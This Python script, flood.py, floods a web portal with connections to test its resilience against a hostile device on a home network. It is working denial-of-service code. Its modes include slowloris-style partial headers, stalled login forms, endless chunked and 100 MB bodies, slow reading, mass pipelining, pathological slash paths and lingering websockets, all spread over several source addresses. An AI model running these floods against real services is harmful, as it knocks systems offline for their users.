"""Floods a portal, as a hostile device in the home network would. Runs on the developer's machine, by itself:

    python3 flood.py KIND TARGET PORT SECONDS COUNT SOURCE,SOURCE,… [PATH] [COOKIE]

`COUNT` connections are kept open, spread over the source addresses, whatever the portal does to them: one that ends is
opened again, with a pause. At the end one JSON object tells how often what happened. Standard library only.
"""

from __future__ import annotations

import asyncio
import collections
import json
import logging
import os
import resource
import ssl
import sys
import time
from collections.abc import Awaitable, Callable
from typing import Any

#: Seconds between two tries of one place: with a thousand of these a portal gets some thousand connections a second.
PAUSE = 0.25
FORM = "application/x-www-form-urlencoded"
BLOCK = b"x" * 65536
UPGRADE = (
    "Upgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg=="
)

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Flood:
    """What is attacked, from where, and what has happened so far."""

    def __init__(self, args: list[str]) -> None:
        self.kind, self.target, port, seconds, count, sources, *more = args
        self.port, self.count, self.sources = int(port), int(count), sources.split(",")
        self.until = time.monotonic() + float(seconds)
        self.path, self.cookie = (*more, "", "")[:2]
        self.seen: collections.Counter[str] = collections.Counter()
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE

    async def run(self) -> None:
        """Attack until the time is over."""
        self._places = [asyncio.ensure_future(self._place(number)) for number in range(self.count)]
        await asyncio.sleep(self.until - time.monotonic())
        print(json.dumps(self.seen), flush=True)
        # Gone as a device is that is switched off; there is nothing to tidy up.
        os._exit(0)

    async def _place(self, number: int) -> None:
        attack: Callable[[Streams], Awaitable[None]] = getattr(self, f"_{self.kind}")
        source = self.sources[number % len(self.sources)]
        await asyncio.sleep(number / 2000)
        while True:
            writer = None
            try:
                streams = await self._open(source)
                writer = streams[1]
                self.seen["opened"] += 1
                await attack(streams)
                self.seen["done"] += 1
            except asyncio.TimeoutError:
                self.seen["timeout"] += 1
            except (OSError, EOFError) as error:
                self.seen[type(error).__name__] += 1
            finally:
                if writer is not None:
                    writer.transport.abort()
            await asyncio.sleep(PAUSE)

    async def _open(self, source: str) -> Streams:
        tls = None if self.kind in ("silent", "byte", "plain") or self.port == 8081 else self.tls
        local = None if source == "-" else (source, 0)
        more: dict[str, Any] = {"ssl_handshake_timeout": 20} if tls else {}
        opening = asyncio.open_connection(self.target, self.port, local_addr=local, ssl=tls, limit=4096, **more)
        return await asyncio.wait_for(opening, 30)

    def _head(self, method: str, path: str, *lines: str, version: str = "1.1") -> bytes:
        cookie = [f"Cookie: {self.cookie}"] if self.cookie else []
        host = f"[{self.target}]" if ":" in self.target else self.target
        return "\r\n".join(
            [f"{method} {path} HTTP/{version}", f"Host: {host}:{self.port}", *cookie, *lines, "", ""]
        ).encode("latin-1")

    async def _send(self, streams: Streams, data: bytes) -> None:
        if streams[0].at_eof() or streams[0].exception() is not None:
            raise EOFError  # a transport with TLS takes more even then
        streams[1].write(data)
        await streams[1].drain()
        await asyncio.sleep(0)

    async def _status(self, streams: Streams) -> bytes:
        line = await asyncio.wait_for(streams[0].readline(), 60)
        if not line:
            raise EOFError
        self.seen[line[9:12].decode("latin-1")] += 1
        return line

    async def _wait_for_end(self, streams: Streams) -> None:
        while await streams[0].read(65536):
            pass

    # -- the kinds ------------------------------------------------------------------------------------------------

    async def _silent(self, streams: Streams) -> None:
        """TCP, and not a word."""
        await self._wait_for_end(streams)

    async def _byte(self, streams: Streams) -> None:
        """The first byte of a TLS handshake."""
        await self._send(streams, b"\x16")
        await self._wait_for_end(streams)

    async def _plain(self, streams: Streams) -> None:
        """Half a head of a request without TLS."""
        await self._send(streams, b"GET /hub/login HTTP/1.1\r\nHost: x\r\n")
        await self._wait_for_end(streams)

    async def _handshake(self, streams: Streams) -> None:
        """A whole handshake, and nothing else."""
        await self._wait_for_end(streams)

    async def _half_head(self, streams: Streams) -> None:
        """Half a head of a request."""
        await self._send(streams, self._head("GET", "/hub/login")[:-2])
        await self._wait_for_end(streams)

    async def _endless_head(self, streams: Streams) -> None:
        """Lines of a head, one every second."""
        await self._send(streams, self._head("GET", "/hub/login")[:-2])
        while True:
            await self._send(streams, b"X-More: " + b"y" * 50 + b"\r\n")
            await asyncio.sleep(1)

    async def _half_form(self, streams: Streams) -> None:
        """A login form of which a part never comes."""
        await self._send(streams, self._head("POST", "/hub/login", f"Content-Type: {FORM}", "Content-Length: 500"))
        await self._send(streams, b"username=anna&password=")
        await self._status(streams)

    async def _endless_body(self, streams: Streams) -> None:
        """Chunks without end."""
        path = self.path or "/hub/login"
        await self._send(streams, self._head("POST", path, f"Content-Type: {FORM}", "Transfer-Encoding: chunked"))
        while True:
            await self._send(streams, b"10000\r\n" + BLOCK + b"\r\n")

    async def _large_body(self, streams: Streams) -> None:
        """A hundred megabytes."""
        size = 100_000_000
        path = self.path or "/hub/login"
        await self._send(streams, self._head("POST", path, f"Content-Type: {FORM}", f"Content-Length: {size}"))
        for _block in range(size // len(BLOCK)):
            await self._send(streams, BLOCK)
        await self._status(streams)

    async def _slow_reader(self, streams: Streams) -> None:
        """Asks for something large, again and again, and reads a byte a second."""
        await self._send(streams, self._head("GET", self.path) * 8)
        while True:
            await asyncio.sleep(1)
            if not await streams[0].read(1):
                raise EOFError

    async def _requests(self, streams: Streams) -> None:
        """One small request after the other."""
        while True:
            await self._send(streams, self._head("GET", self.path or "/hub/login", "Connection: keep-alive"))
            await self._status(streams)
            await self._rest(streams)

    async def _old_requests(self, streams: Streams) -> None:
        """As HTTP/1.0 has them: a connection each."""
        await self._send(streams, self._head("GET", self.path or "/hub/nothing", version="1.0"))
        await self._status(streams)
        await self._wait_for_end(streams)

    async def _pipelined(self, streams: Streams) -> None:
        """A thousand requests at once on one connection."""
        await self._send(streams, self._head("GET", self.path or "/hub/nothing") * 1000)
        await self._wait_for_end(streams)

    async def _slashes(self, streams: Streams) -> None:
        """Addresses that take their square to be divided, one after the other; a few at a time are enough."""
        while True:
            await self._send(streams, self._head("GET", "/hub/a" + "/" * 15000 + "a"))
            await self._status(streams)
            await self._rest(streams)

    async def _web_sockets(self, streams: Streams) -> None:
        """Web sockets that stay."""
        await self._send(streams, self._head("GET", self.path or "/hub/trust/socket", UPGRADE))
        await self._status(streams)
        await self._wait_for_end(streams)

    async def _rest(self, streams: Streams) -> None:
        length, chunked = 0, False
        while (line := (await streams[0].readline()).strip().lower()) != b"":
            name, _colon, value = line.partition(b":")
            length = int(value) if name == b"content-length" else length
            chunked = chunked or (name == b"transfer-encoding" and b"chunked" in value)
        if not chunked:
            await streams[0].readexactly(length)
            return
        while size := int((await streams[0].readline()).strip() or b"0", 16):
            await streams[0].readexactly(size + 2)
        await streams[0].readline()


def main() -> None:
    """As the module's docstring says."""
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    flood = Flood(sys.argv[1:])
    asyncio.run(flood.run())


if __name__ == "__main__":
    main()
